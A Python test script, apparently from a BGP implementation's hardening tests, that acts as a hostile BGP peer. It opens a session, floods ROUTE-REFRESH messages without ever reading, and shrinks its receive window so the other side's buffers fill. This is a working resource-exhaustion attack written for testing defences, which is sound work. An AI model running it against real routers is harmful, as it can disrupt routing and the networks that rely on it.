"""A hostile BGP speaker for the hardening tests, run inside a test namespace: it listens,
opens a session (route refresh capability), then floods ROUTE-REFRESH and never reads, so
everything the other side sends in answer piles up there. Raw TCP, no BGP library.

usage: hostile_bgp.py LISTEN_ADDR ASN ROUTER_ID"""
import socket
import struct
import sys
import threading

MARKER = b"\xff" * 16
OPEN, KEEPALIVE, ROUTE_REFRESH = 1, 4, 5


def message(kind, body=b""):
    return MARKER + struct.pack("!HB", 19 + len(body), kind) + body


def open_message(asn, router_id):
    caps = b"".join([
        bytes([1, 4]) + struct.pack("!HBB", 1, 0, 1),  # multiprotocol IPv4 unicast
        bytes([2, 0]),                                 # route refresh (RFC 2918)
        bytes([65, 4]) + struct.pack("!I", asn),       # four-octet AS (RFC 6793)
    ])
    params = bytes([2, len(caps)]) + caps
    body = struct.pack("!BHH4sB", 4, asn if asn < 65536 else 23456, 90,
                       socket.inet_aton(router_id), len(params)) + params
    return message(OPEN, body)


def flood(conn, asn, router_id):
    refresh = message(ROUTE_REFRESH, struct.pack("!HBB", 1, 0, 1))
    batch = refresh * 4096
    try:
        conn.sendall(open_message(asn, router_id) + message(KEEPALIVE))
        while True:  # never recv(): the answers stay queued on the other side
            conn.sendall(batch)
    except OSError:
        pass
    finally:
        conn.close()


def main():
    addr, asn, router_id = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # A small receive window so the other side's kernel buffers fill at once.
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    srv.bind((addr, 179))
    srv.listen(8)
    print("listening", flush=True)
    while True:
        conn, peer = srv.accept()
        print("connection from", peer, flush=True)
        threading.Thread(target=flood, args=(conn, asn, router_id), daemon=True).start()


if __name__ == "__main__":
    main()
